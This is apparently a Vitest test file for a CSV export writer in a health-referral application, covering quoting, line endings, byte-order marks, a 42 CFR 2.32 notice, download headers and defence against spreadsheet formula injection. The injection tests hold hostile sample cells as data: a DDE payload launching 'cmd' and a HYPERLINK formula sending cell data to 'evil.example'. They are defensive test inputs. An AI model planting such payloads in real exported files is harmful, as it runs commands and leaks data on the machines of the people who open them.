import { describe, expect, it } from "vitest";
import { REDISCLOSURE_NOTICE_42_CFR_2_32 } from "~/modules/consent/wording";
import { csvField, csvFile, csvHeaders, csvRows, neutraliseFormula, restoreFormula, UTF8_BOM } from "~/modules/export/csv";
import { parseCsv } from "~/modules/referrals/csv";

const read = (text: string) => {
  const r = parseCsv(text);
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  return r.records.map((x) => x.fields);
};

describe("the one CSV writer", () => {
  it("quotes a field with a comma, quote, CR or LF and doubles embedded quotes", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField('Smith, "Jo"')).toBe('"Smith, ""Jo"""');
    expect(csvField("two\r\nlines")).toBe('"two\r\nlines"');
    expect(csvField("lf\nonly")).toBe('"lf\nonly"');
    expect(csvField("say \"hi\"")).toBe('"say ""hi"""');
  });

  it("writes empty, numeric, boolean and date cells", () => {
    expect(csvRows([[null, undefined, "", 0, 1.5, true, false, new Date("2027-01-02T03:04:05Z")]])).toBe(",,,0,1.5,yes,no,2027-01-02T03:04:05.000Z\r\n");
  });

  it("neutralises every formula-leading character the OWASP way: a single quote in front, the cell quoted", () => {
    expect(csvField("=HYPERLINK(\"http://x\",\"y\")")).toBe('"\'=HYPERLINK(""http://x"",""y"")"');
    expect(csvField("+SUM(A1)")).toBe(`"'+SUM(A1)"`);
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(csvField("@SUM(1+1)")).toBe(`"'@SUM(1+1)"`);
    expect(csvField("\t=1+2")).toBe(`"'\t=1+2"`);
    expect(csvField("\r=1+2")).toBe(`"'\r=1+2"`);
    expect(csvField("=1+2\";=1+2")).toBe(`"'=1+2"";=1+2"`);
    // A phone number with a leading + would be evaluated by Excel too: it is made text.
    expect(csvField("+1 (555) 010-1000")).toBe(`"'+1 (555) 010-1000"`);
    // Not at the start: nothing to neutralise.
    expect(csvField("a=b")).toBe("a=b");
  });

  it("quotes a field holding a semicolon or tab, so a spreadsheet whose list separator is ';' (Spanish, most of Europe) cannot split a formula out of it", () => {
    // Excel in es-ES opens a .csv with ';' as the separator: unquoted, this name became two cells,
    // the second one "=HYPERLINK(…)" — a live formula. Quoted, it stays one cell of text.
    expect(csvField('Ana;=HYPERLINK("http://evil.example/?"&A2,"Open")')).toBe('"Ana;=HYPERLINK(""http://evil.example/?""&A2,""Open"")"');
    expect(csvField("Ana\t=1+1")).toBe('"Ana\t=1+1"');
    expect(read(csvRows([["Ana;=1+1", "x"]]))).toEqual([["Ana;=1+1", "x"]]);
  });

  it("leaves a plain number alone (a spreadsheet reads it as a number, evaluating nothing)", () => {
    for (const n of ["-3", "+5", "-0.25", "-.5", "1e-3", "-2E+4"]) expect(csvField(n)).toBe(n);
    expect(csvField(-3)).toBe("-3");
    expect(csvField("-3-3")).toBe(`"'-3-3"`);
    expect(csvField("-1e")).toBe(`"'-1e"`);
  });

  it("reads back exactly what it wrote, formulas restored", () => {
    const rows = [["name", "notes"], ["A, B", 'he said "no"'], ["multi\r\nline", ""], ["=1+2", "@home"], ["plain", "-7"]];
    const back = read(csvRows(rows)).map((r) => r.map(restoreFormula));
    expect(back).toEqual(rows);
    expect(restoreFormula(neutraliseFormula("-x"))).toBe("-x");
    expect(restoreFormula("'plain")).toBe("'plain");
  });

  it("ends every record, the last one included, with CRLF", () => {
    expect(csvRows([["a", "b"], ["c", "d"]])).toBe("a,b\r\nc,d\r\n");
    expect(csvRows([])).toBe("");
  });

  it("starts a file with a UTF-8 byte-order mark for Excel, then the header and rows", () => {
    const file = csvFile(["Name", "Zoë"], [["Nguyễn", 1]]);
    expect(file.startsWith(UTF8_BOM)).toBe(true);
    expect(file).toBe(`${UTF8_BOM}Name,Zoë\r\nNguyễn,1\r\n`);
    expect(Buffer.from(file, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it("puts the 42 CFR 2.32 notice first, then an empty line, when asked — and only then", () => {
    const file = csvFile(["Name"], [["Ann"]], { redisclosureNotice: true });
    expect(file.startsWith(UTF8_BOM)).toBe(true);
    expect(read(file)).toEqual([[`Notice (42 CFR 2.32): ${REDISCLOSURE_NOTICE_42_CFR_2_32}`], ["Name"], ["Ann"]]);
    expect(file.split("\r\n")[1]).toBe("");
    expect(csvFile(["Name"], [["Ann"]], { redisclosureNotice: false })).not.toContain("42 CFR");
  });

  it("names the download safely and never lets it be cached", () => {
    expect(csvHeaders('a"b\r\n.csv')).toEqual({
      "content-type": "text/csv; charset=utf-8",
      "content-disposition": 'attachment; filename="a-b--.csv"',
      "cache-control": "private, no-store",
    });
  });
});
